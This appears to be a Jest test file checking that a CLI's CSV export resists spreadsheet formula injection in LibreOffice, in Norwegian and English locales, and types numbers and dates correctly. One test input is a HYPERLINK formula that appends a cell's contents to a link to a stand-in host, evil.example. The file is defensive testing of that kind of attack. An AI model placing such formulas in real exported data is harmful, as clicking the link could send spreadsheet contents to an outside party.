/**
 * `kostra profile --format csv` opened in LibreOffice as a user opens it — in a Norwegian
 * (nb-NO, `;`) or English (en-GB, `,`) locale, with dates detected and formulas evaluated
 * as Excel does: a formula in a status stays text, coverage stays two numbers (not a date),
 * and decimals are numbers. The first case shows the old output failing the same checks.
 *
 * Text whose first non-white-space character starts a formula (" =…", NBSP, a line break,
 * the full-width ＝＋－＠) is escaped too. LibreOffice 7.4 itself reads such cells as text
 * even unescaped — it evaluates only a cell that begins with "=" — but other spreadsheets
 * and import paths trim white space or fold full-width forms first; the test shows that
 * the escaped cells open as the text itself after a visible quote mark, never a formula.
 */
import { profilesToCsv } from "../../src/cli/profile-output";
import { csvDialect, csvLines } from "../../src/cli/spreadsheet-csv";
import { HYPERLINK_STATUS, hostileProfile } from "../support/hostile-profile";
import { openCsv } from "../support/libreoffice";
import { LONG_TEST_TIMEOUT_MS } from "../support/timing";

jest.setTimeout(LONG_TEST_TIMEOUT_MS);

const SHEET = "input";

describe("the profile CSV in LibreOffice", () => {
  it("(control) the old output turns a status into a live formula, 10/10 into a date and point decimals into text in nb-NO", async () => {
    // As the old writer quoted it: only for ';', '"' or a line break.
    const quoted = `"${HYPERLINK_STATUS.replace(/"/g, '""')}"`;
    const old = `Indikator;Bærum;Snitt;Med data\nx;${quoted};50.902527;10/10\n`;
    const sheet = await openCsv(old, { separator: ";", locale: "nb-NO" });
    expect(sheet.formula(SHEET, "B2")).toMatch(/^=HYPERLINK/);
    expect(sheet.value(SHEET, "C2")).toBe("50.902527");
    expect(sheet.value(SHEET, "D2")).not.toBe(10);
    expect(typeof sheet.value(SHEET, "D2")).toBe("number"); // a date serial
  });

  it.each([
    ["nb", ";", "nb-NO"],
    ["en", ",", "en-GB"],
  ] as const)("%s output in %s: the status is text, coverage and decimals are numbers", async (lang, separator, locale) => {
    const profile = hostileProfile();
    const sheet = await openCsv(profilesToCsv([profile], lang), { separator, locale });
    const head = ["A", "B", "C", "D", "E", "F", "G", "H", "I", "J", "K", "L", "M"];
    expect(sheet.value(SHEET, "A1")).toBe(lang === "nb" ? "Indikator" : "Indicator");
    // Row 2: kunstformidling, Bærum missing under the formula-like status.
    expect(sheet.formula(SHEET, "B2")).toBeUndefined();
    expect(sheet.value(SHEET, "B2")).toBe(`'${HYPERLINK_STATUS}`);
    const row = profile.rows[0];
    expect(sheet.value(SHEET, "C2")).toBeCloseTo(row.average!, 9);
    expect(sheet.value(SHEET, "F2")).toBe(-12.5); // Asker
    expect(sheet.value(SHEET, `${head[11]}2`)).toBe(row.n);
    expect(sheet.value(SHEET, `${head[12]}2`)).toBe(row.of);
    expect(sheet.value(SHEET, `${head[12]}1`)).toBe(lang === "nb" ? "Medlemmer" : "Members");
    // Every index of the other rows is a number equal to the profile's.
    for (const [i, r] of profile.rows.entries()) if (r.index !== null) expect(sheet.value(SHEET, `G${i + 2}`)).toBeCloseTo(r.index, 9);
  });

  it.each([
    ["nb", ";", "nb-NO"],
    ["en", ",", "en-GB"],
  ] as const)("%s: text with a formula after white space or in full-width forms opens as that text after a quote mark", async (lang, separator, locale) => {
    const texts = [" =1+1", "\u00A0=HYPERLINK(\"http://evil.example/?\"&A1)", "\n=1+1", "\u3000+1+1", " -1+2", " @SUM(1;2)", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)"];
    const sheet = await openCsv(csvLines([["tekst"], ...texts.map((t) => [t])], csvDialect(lang)), { separator, locale });
    for (const [i, text] of texts.entries()) {
      expect([text, sheet.formula(SHEET, `A${i + 2}`)]).toEqual([text, undefined]);
      expect(sheet.value(SHEET, `A${i + 2}`)).toBe(`'${text}`);
    }
  });
});
